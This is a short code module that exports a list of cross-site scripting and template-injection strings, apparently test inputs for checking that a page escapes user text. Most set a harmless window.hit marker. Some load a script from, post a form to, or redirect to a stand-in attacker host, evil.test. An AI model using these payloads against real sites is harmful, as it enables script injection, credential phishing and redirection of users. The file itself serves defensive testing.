// What somebody might write where a page shows their words.
export const ATTACKS = [
  '<script>window.hit = 1</script>',
  '"><img src=x onerror="window.hit = 2">',
  "' onmouseover='window.hit = 3' x='",
  '</textarea><svg onload=window.hit=4>',
  '</title><script src="//evil.test/x.js"></script>',
  'javascript:window.hit=5',
  '{{constructor.constructor("window.hit=7")()}}',
  '<a href="javascript:window.hit=8">x</a><form action="//evil.test"><button>Sign and send</button></form>',
  '<base href="//evil.test/"><meta http-equiv="refresh" content="0;url=//evil.test"><style>*{display:none}</style>',
];
